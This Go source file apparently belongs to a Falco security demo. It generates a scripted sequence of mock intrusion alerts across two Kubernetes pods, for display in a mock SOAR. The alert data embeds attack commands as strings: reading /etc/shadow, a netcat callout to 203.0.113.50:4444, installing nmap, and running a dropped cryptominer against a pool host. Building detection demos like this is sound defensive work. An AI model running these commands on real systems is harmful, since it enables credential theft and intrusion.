package demo

import (
	"fmt"
	"slices"
	"time"

	"github.com/falco-phantom/kubectl-falco-phantom/pkg/falco"
)

// Scenarios are the sequences of alerts the demo can publish.
var Scenarios = []string{"attack"}

// Scenario returns the alerts of a named sequence, stamped from start on.
//
// "attack" is an intrusion across two workloads: a shell opened in a web
// pod, which reads /etc/shadow and calls out to a host on the internet;
// then a shell in a payments pod, where a package manager installs a
// scanner and a dropped binary runs (a miner: critical). The page of the
// mock SOAR then shows several cases (an incident per rule and container)
// and every severity.
func Scenario(name string, start time.Time) ([]*falco.Event, error) {
	if name != "attack" {
		return nil, fmt.Errorf("unknown scenario %q (want one of %v)", name, Scenarios)
	}
	web := AlertSpec{Namespace: "shop", Pod: "web-7c9f8d5b6-x2kqz", Container: "nginx", Image: "docker.io/library/nginx:1.27", Node: "worker-2"}
	api := AlertSpec{Namespace: "payments", Pod: "api-5d8b9c7f4-q7wzl", Container: "api", Image: "registry.example.com/payments/api:3.4.1", Node: "worker-1"}
	at := func(base AlertSpec, after time.Duration, rule, command, file string) *falco.Event {
		base.Rule, base.Command, base.File, base.Time = rule, command, file, start.Add(after)
		return Alert(base)
	}
	events := []*falco.Event{
		at(web, 0, RuleShell, "bash", ""),
		at(web, 400*time.Millisecond, RuleShell, "sh -c id; uname -a", ""),
		at(web, 3*time.Second, RuleSensitiveFile, "cat /etc/shadow", "/etc/shadow"),
		at(web, 7*time.Second, RuleOutbound, "nc 203.0.113.50 4444", "10.244.0.12:48822->203.0.113.50:4444"),
		at(api, 12*time.Second, RuleShell, "sh", ""),
		at(api, 15*time.Second, RulePackageManager, "apk add --no-cache nmap", ""),
		at(api, 19*time.Second, RuleDropAndExecute, "/tmp/.x/kworker --donate-level 1 -o pool.example.net:3333", ""),
		at(api, 19*time.Second+300*time.Millisecond, RuleDropAndExecute, "/tmp/.x/kworker --threads 2", ""),
	}
	slices.SortStableFunc(events, func(a, b *falco.Event) int { return a.Time.Compare(b.Time) })
	return events, nil
}
